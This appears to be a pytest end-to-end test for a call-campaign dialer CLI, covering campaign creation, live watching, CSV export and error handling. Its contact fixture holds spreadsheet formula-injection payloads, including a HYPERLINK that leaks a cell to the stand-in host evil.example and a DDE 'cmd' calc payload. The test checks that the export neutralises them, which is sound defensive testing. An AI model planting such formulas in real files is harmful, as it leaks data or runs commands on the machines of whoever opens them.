"""``dialerctl`` as an operator runs it: a subprocess talking HTTP to a daemon that dials the local Asterisk.

The daemon runs in the test's event loop (``tests.live.live_api``); every ``dialerctl`` is a child process
configured through ``DIALERD_URL`` / ``DIALERD_API_KEY`` like a user's shell.
"""

from __future__ import annotations

import asyncio
import csv
import io
import json
import os
import re
import sys
import time
from dataclasses import dataclass
from pathlib import Path

import pytest

from tests.conftest import Api, free_port
from tests.live import live_api

pytestmark = [pytest.mark.pbx, pytest.mark.timeout(90)]

REPO = Path(__file__).resolve().parents[2]
RUN_TIMEOUT = 30.0

# Last two digits decide the carrier's answer (asterisk/README.md): 00-29 answer ~2 s, 42 busy,
# 63 congestion, 75 not found, 85 declined. Notes carry spreadsheet formulas that must come out inert.
CONTACTS_CSV = (
    "phone_number,first_name,note\n"
    "+12015550100,Ann,fine\n"
    "+12025550101,Bob,fine too\n"
    '+12035550142,Cy,"=HYPERLINK(""http://evil.example/?leak=""&A1,""click"")"\n'
    "+12045550163,Dee,@SUM(1)\n"
    "+12055550175,Eve,+cmd|' /C calc'!A0\n"
    "+12065550185,Fay,-1+1\n"
    "call me maybe,Gus,bad row\n"
)
FAILED = {  # number -> (reason, note as exported)
    "+12035550142": ("busy", "'=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"click\")"),
    "+12045550163": ("congestion", "'@SUM(1)"),
    "+12055550175": ("invalid_number", "'+cmd|' /C calc'!A0"),
    "+12065550185": ("rejected", "'-1+1"),
}
ANSWERED = {"+12015550100", "+12025550101"}


@dataclass
class Run:
    code: int
    out: str
    err: str


class Ctl:
    """Runs ``python -m dialerd.ctl`` with the daemon's URL and a key in the environment."""

    def __init__(self, api: Api, tmp: Path) -> None:
        self.env = {k: v for k, v in os.environ.items() if not k.startswith("DIALERD_")}
        self.env.update({"DIALERD_URL": api.base, "DIALERD_API_KEY": api.keys["acme"], "NO_COLOR": "1"})
        self.tmp = tmp

    async def spawn(self, *args: str) -> asyncio.subprocess.Process:
        return await asyncio.create_subprocess_exec(
            sys.executable, "-m", "dialerd.ctl", *args, cwd=self.tmp, env=self.env,
            stdin=asyncio.subprocess.DEVNULL, stdout=asyncio.subprocess.PIPE, stderr=asyncio.subprocess.PIPE,
        )  # fmt: skip

    async def __call__(self, *args: str, timeout: float = RUN_TIMEOUT) -> Run:
        proc = await self.spawn(*args)
        try:
            out, err = await asyncio.wait_for(proc.communicate(), timeout)
        except TimeoutError:
            proc.kill()
            await proc.wait()
            raise AssertionError(f"dialerctl {' '.join(args)} did not finish in {timeout} s") from None
        assert proc.returncode is not None
        return Run(proc.returncode, out.decode(), err.decode())


def _ari_app() -> str:
    # One websocket per ARI app name: our own keeps other sessions' dialerds from taking our events.
    return f"dialerd-test-ctl-{os.getpid()}"


async def test_create_start_watch_export(tmp_path: Path) -> None:
    (tmp_path / "contacts.csv").write_text(CONTACTS_CSV)
    async with live_api(tmp_path, ari_app=_ari_app()) as api:
        ctl = Ctl(api, tmp_path)
        created = await ctl(
            "campaigns", "create", "contacts.csv", "--name", "ctl e2e", "--max-concurrent-calls", "6",
            "--ring-timeout", "8", "--caller-id", "+14155550000", "--retries", "0",
        )  # fmt: skip
        assert created.code == 0, created.err
        lines = created.out.splitlines()
        cid = lines[0]
        assert cid.startswith("cmp_") and " " not in cid
        assert "6 contacts from 7 rows; 1 rejected" in lines[1]
        assert "line 8: 'call me maybe'" in created.out

        # watch connects first (live, non-TTY: stdout is a pipe) and sees the campaign from its start.
        watch = await ctl.spawn("watch", cid)
        assert watch.stdout is not None
        first = await asyncio.wait_for(watch.stdout.readline(), RUN_TIMEOUT)
        assert b"snapshot" in first and b"status=draft" in first and b"final=0/6" in first

        started = await ctl("campaigns", "start", cid)
        assert (started.code, started.out.strip()) == (0, f"{cid} running")

        t0 = time.monotonic()
        rest, err = await asyncio.wait_for(watch.communicate(), 60)
        watch_seconds = time.monotonic() - t0
        assert watch.returncode == 0, err.decode()
        out = rest.decode().splitlines()

        failed_csv = await ctl("contacts", cid, "--status", "failed", "--csv")
        to_file = await ctl("campaigns", "contacts", cid, "--status", "failed", "--csv", "--output", "failed.csv")
        listing = await ctl("campaigns", "list")
        shown = await ctl("campaigns", "get", cid)
        as_json = await ctl("get", cid, "--json")
        # The terminal view, forced on although stdout is a pipe, replaying the finished campaign.
        live_view = await ctl("watch", cid, "--from-start", "--tty")

    # The watch output: every contact's transitions, the campaign's end, and the final counts.
    transitions = [line.split() for line in out if len(line.split()) > 2 and line.split()[1] != "snapshot"]
    by_number: dict[str, list[str]] = {}
    for words in transitions:
        if words[2].startswith("+"):
            by_number.setdefault(words[2], []).append(words[1])
    assert set(by_number) == ANSWERED | set(FAILED), out
    for number in ANSWERED:
        assert by_number[number] == ["originated", "connected", "completed"], out
    for number, (reason, _) in FAILED.items():
        assert by_number[number] == ["originated", "failed"], out
        assert any(number in line and "failed" in line and f"reason={reason}" in line for line in out), out
    assert any(line.split()[1:3] == ["campaign", "draft"] and "-> running" in line for line in out), out
    assert any(line.split()[1:] == ["end", "status=completed"] for line in out if len(line.split()) > 1), out
    assert out[-1] == (
        "final status=completed total=6 pending=0 originated=0 connected=0 completed=2 failed=4 cancelled=0 "
        "skipped=0"
    ), out
    assert watch_seconds < 45

    # The export: exactly the failed contacts, every dangerous cell neutralised, numbers kept readable.
    assert failed_csv.code == 0, failed_csv.err
    rows = list(csv.DictReader(io.StringIO(failed_csv.out, newline="")))
    # Plain E.164 numbers stay as they are; every formula-like cell is neutralised.
    assert {r["phone_number"] for r in rows} == set(FAILED)
    for row in rows:
        number = row["phone_number"]
        reason, note = FAILED[number]
        assert (row["status"], row["failure_reason"], row["note"]) == ("failed", reason, note)
        assert row["first_name"][0] not in "=+-@\t\r"
    assert all(
        not cell.startswith(("=", "+", "-", "@", "\t", "\r")) or re.fullmatch(r"\+[1-9][0-9]{1,14}", cell)
        for row in rows
        for cell in row.values()
    )
    assert failed_csv.out.startswith('"id","phone_number","raw_number"')
    assert (to_file.code, (tmp_path / "failed.csv").read_bytes().decode()) == (0, failed_csv.out)
    assert "exported 4 contacts to failed.csv" in to_file.err

    assert listing.code == 0 and cid in listing.out and "ctl e2e" in listing.out and "100%" in listing.out
    assert shown.code == 0 and "status                completed" in shown.out
    assert "contacts              total=6 pending=0 originated=0 connected=0 completed=2 failed=4" in shown.out
    assert live_view.code == 0, live_view.err
    screen = live_view.out
    assert screen.startswith("\x1b[?25l") and "\x1b[?25h" in screen  # cursor hidden, then restored
    assert "\x1b[5F\x1b[J" in screen  # redrawn in place, no curses
    last_frame = screen.rsplit("\x1b[J", 1)[1]
    assert f"campaign ctl e2e ({cid})  completed" in last_frame
    assert "] 6/6 final  100%" in last_frame and "calls in flight 0" in last_frame
    assert "completed 2  failed 4  cancelled 0" in last_frame
    assert sum(n in last_frame for n in ANSWERED | set(FAILED)) >= 4  # recent transitions
    assert as_json.code == 0 and '"status": "completed"' in as_json.out and f'"id": "{cid}"' in as_json.out


async def test_errors_and_exit_codes(tmp_path: Path) -> None:
    (tmp_path / "one.csv").write_text("phone_number\n+12015550100\n")
    async with live_api(tmp_path, ari_app=_ari_app()) as api:
        ctl = Ctl(api, tmp_path)
        unknown = await ctl("campaigns", "get", "cmp_does_not_exist")
        unknown_watch = await ctl("watch", "cmp_does_not_exist")
        bad_key = await ctl("--api-key", "dlr_bogus", "campaigns", "list")
        bad_key_after = await ctl("campaigns", "list", "--api-key", "dlr_bogus")
        bad_field = await ctl("campaigns", "create", "one.csv", "--name", "x", "--max-concurrent-calls", "500")
        created = await ctl("campaigns", "create", "one.csv", "--name", "conflicts")
        cid = created.out.splitlines()[0]
        pause_draft = await ctl("pause", cid)
        deleted = await ctl("delete", cid)
        missing_id = await ctl("campaigns", "get")
        missing_file = await ctl("campaigns", "create", "nope.csv", "--name", "x")
        not_a_command = await ctl("campaigns", "explode")
        dead = await ctl("--url", f"http://127.0.0.1:{free_port()}", "campaigns", "list")

    for run, error_id in (
        (unknown, "campaign_not_found"), (unknown_watch, "campaign_not_found"), (bad_key, "unauthorized"),
        (bad_key_after, "unauthorized"), (bad_field, "invalid_field"), (pause_draft, "invalid_transition"),
        (dead, "connection_error"),
    ):  # fmt: skip
        assert run.code == 1, (run, error_id)
        assert f"error_id: {error_id}" in run.err and run.out == "", (run, error_id)
    assert "max_concurrent_calls" in bad_field.err
    assert (deleted.code, deleted.out.strip()) == (0, f"deleted {cid}")
    for run in (missing_id, missing_file, not_a_command):
        assert run.code == 2 and "usage: dialerctl" in run.err, run
    assert "nope.csv" in missing_file.err


async def test_create_with_phone_column_and_encoding_then_find_it_by_name(tmp_path: Path) -> None:
    # A cp1252 file with two phone columns: --phone-column picks the second, --encoding decodes the accents.
    (tmp_path / "two.csv").write_bytes("name;Telefon;Handy\nRenée;+12015550100;+12015550101\n".encode("cp1252"))
    async with live_api(tmp_path, ari_app=_ari_app()) as api:
        ctl = Ctl(api, tmp_path)
        created = await ctl("campaigns", "create", "two.csv", "--name", "Épinal spring", "--phone-column", "Handy",
                            "--encoding", "cp1252", "--json")
        other = await ctl("campaigns", "create", "two.csv", "--name", "autumn")
        found = await ctl("campaigns", "list", "--name", "ÉPINAL", "--json")
        contacts = await ctl("contacts", created.out and _id_of(created.out), "--json")
    assert created.code == 0 and other.code == 0, (created, other)
    report = json.loads(created.out)["import"]
    assert report["encoding"] == "cp1252" and report["phone_columns"] == {"Handy": 1}, report
    names = [c["name"] for c in json.loads(found.out)["campaigns"]]
    assert names == ["Épinal spring"], found
    rows = [json.loads(line) for line in contacts.out.splitlines()]
    assert [r["phone_number"] for r in rows] == ["+12015550101"], contacts
    assert rows[0]["custom_fields"]["name"] == "Renée", rows


def _id_of(created_json: str) -> str:
    return str(json.loads(created_json)["id"])


async def test_explain_and_watch_say_why_nothing_dials(tmp_path: Path) -> None:
    # 44: busy; one retry an hour later, so the running campaign sits idle waiting for it.
    (tmp_path / "busy.csv").write_text("phone_number\n+12015550144\n")
    async with live_api(tmp_path, ari_app=_ari_app()) as api:
        ctl = Ctl(api, tmp_path)
        created = await ctl("campaigns", "create", "busy.csv", "--name", "idle", "--retries", "1",
                            "--retry-delay", "3600")
        assert created.code == 0, created.err
        cid = created.out.splitlines()[0]
        draft = await ctl("explain", cid)
        watch = await ctl.spawn("watch", cid)
        assert watch.stdout is not None
        assert b"status=draft" in await asyncio.wait_for(watch.stdout.readline(), RUN_TIMEOUT)
        assert (await ctl("start", cid)).code == 0
        seen: list[str] = []
        # Snapshots come every 2 s while it runs, and an explain line whenever its reasons change: right after
        # the start (the call not yet placed) it may name a passing throttle first; wait for the retry.
        while not any(" explain " in line and "retry_delay" in line for line in seen):
            line = await asyncio.wait_for(watch.stdout.readline(), RUN_TIMEOUT)
            assert line, f"watch ended early: {seen}"
            seen.append(line.decode().rstrip("\n"))
        text = await ctl("explain", cid)
        as_json = await ctl("campaigns", "explain", cid, "--json")
        assert (await ctl("stop", cid)).code == 0
        _rest, err = await asyncio.wait_for(watch.communicate(), RUN_TIMEOUT)
        assert watch.returncode == 0, err.decode()

    assert draft.code == 0 and draft.out.splitlines() == [f"{cid} draft: not dialling; 1 pending, 1 eligible now"]
    answer = json.loads(as_json.out)
    assert as_json.code == 0 and answer["status"] == "running" and answer["dialling"] is False
    retry = answer["blocked_by"][-1]
    assert retry["reason"] == "retry_delay" and retry["contacts"] == 1 and retry["next_at"]
    assert text.code == 0, text.err
    assert text.out.splitlines()[0] == f"{cid} running: not dialling; 1 pending, 0 eligible now"
    assert f"  retry_delay            1 contacts until {retry['next_at']}" in text.out.splitlines()
    why = next(line for line in seen if " explain " in line and "retry_delay" in line)
    assert f"not dialling: retry_delay 1 until {retry['next_at']} (pending 1, eligible 0)" in why, seen
